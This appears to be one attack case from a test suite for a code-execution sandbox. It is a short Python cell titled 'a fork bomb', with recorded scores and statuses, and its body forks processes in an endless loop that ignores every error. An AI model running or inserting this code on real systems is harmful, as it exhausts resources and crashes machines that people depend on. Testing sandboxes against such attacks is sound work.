# /// attack
# title = "a fork bomb"
# earned = [3, 1]
# status = ["timeout", "crashed"]
# cell_seconds = 1
# slow = true
# counts_processes = true
# ///
# %%
import os

while True:
    try:
        os.fork()
    except BaseException:
        pass
